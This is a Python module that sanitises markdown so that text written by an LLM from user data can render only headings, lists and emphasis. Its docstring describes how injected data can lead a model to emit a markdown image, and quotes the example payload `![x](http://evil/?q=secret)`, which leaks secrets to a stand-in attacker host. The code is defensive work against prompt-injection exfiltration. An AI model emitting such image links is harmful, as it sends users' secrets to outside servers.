"""Markdown that can only render as text, headings, lists and emphasis.

Insight text mixes our words with values from the user's data and, when an LLM writes it,
with whatever the model was talked into by that data. A cell such as
`![x](http://evil/?q=secret)` would make the browser fetch a URL carrying secrets, so before
anything is stored or shown:
- `<` is escaped, so there is no raw HTML and no `<...>` autolink;
- `[` and `]` are escaped, so there are no links, images, references or footnotes;
- every URL, `www.` host and e-mail address is wrapped in an inline code span. Renderers with
  GitHub-flavoured markdown linkify URLs found in *decoded text*, so escaping characters inside
  a URL would not stop them; code spans are never linkified;
- every other backtick is escaped, so those URL spans are the only code spans and no input can
  make a renderer pair backticks differently (across lines or table cells) than we do.
Applying it twice gives the same text.
"""

from __future__ import annotations

import re

# URLs end at whitespace, at characters that would end a code span or a GFM table cell, and at
# the escapes this function writes (`&lt;`, backslashes), so a second pass reads the text as the first did.
_URL_RE = re.compile(
    r"(?:[a-z][a-z0-9+.\-]*://|(?:mailto|javascript|vbscript|data|file|tel|xmpp):|www\.)(?:(?!&lt;)[^\s<>`|\\])*"
    r"|[\w.+\-]+@[\w\-]+(?:\.[\w\-]+)+",
    re.IGNORECASE,
)
_TRAILING_PUNCTUATION = ".,;:!?'\")]}*_~"
_ASCII_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_CONTROL_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
_ESCAPES = {"<": "&lt;", "[": "\\[", "]": "\\]", "`": "\\`"}


def safe_markdown(text: str) -> str:
    """Neutralises HTML, images, links, autolinks and bare URLs; keeps the rest of the markdown."""
    text = _CONTROL_RE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
    out: list[str] = []
    last_was_span = False
    i = 0
    while i < len(text):
        char = text[i]
        span = _wrapped_url_at(text, i) if char == "`" else ""  # a span written by an earlier pass
        if not span and (url := _url_at(text, i)):
            span, consumed = f"`{url}`", len(url)
        else:
            consumed = len(span)
        if span:
            if last_was_span:
                out.append(" ")  # two spans back to back would read as one run of two backticks
            out.append(span)
            last_was_span = True
            i += consumed
            continue
        last_was_span = False
        if char == "\\":
            if i + 1 < len(text) and text[i + 1] in _ASCII_PUNCTUATION:
                out.append(text[i : i + 2])  # already a literal character in markdown
                i += 2
            else:  # a lone backslash, written as an escaped one so it cannot escape the backtick of a URL span
                hard_break = i + 1 == len(text) or text[i + 1] == "\n"
                out.append("\\" if hard_break else "\\\\")
                i += 1
            continue
        out.append(_ESCAPES.get(char, char))
        i += 1
    return "".join(out)


def _url_at(text: str, i: int) -> str:
    if i > 0 and text[i - 1].isalnum():
        return ""  # inside a word: linkifiers need a boundary, and longer matches started earlier
    match = _URL_RE.match(text, i)
    if not match:
        return ""
    url = match.group(0)
    while url and url[-1] in _TRAILING_PUNCTUATION:
        url = url[:-1]
    return url if len(url) > 4 and _URL_RE.fullmatch(url) else ""


def _wrapped_url_at(text: str, i: int) -> str:
    url = _url_at(text, i + 1) if i + 1 < len(text) else ""
    end = i + 1 + len(url)
    if url and end < len(text) and text[end] == "`" and (end + 1 == len(text) or text[end + 1] != "`"):
        return text[i : end + 1]
    return ""
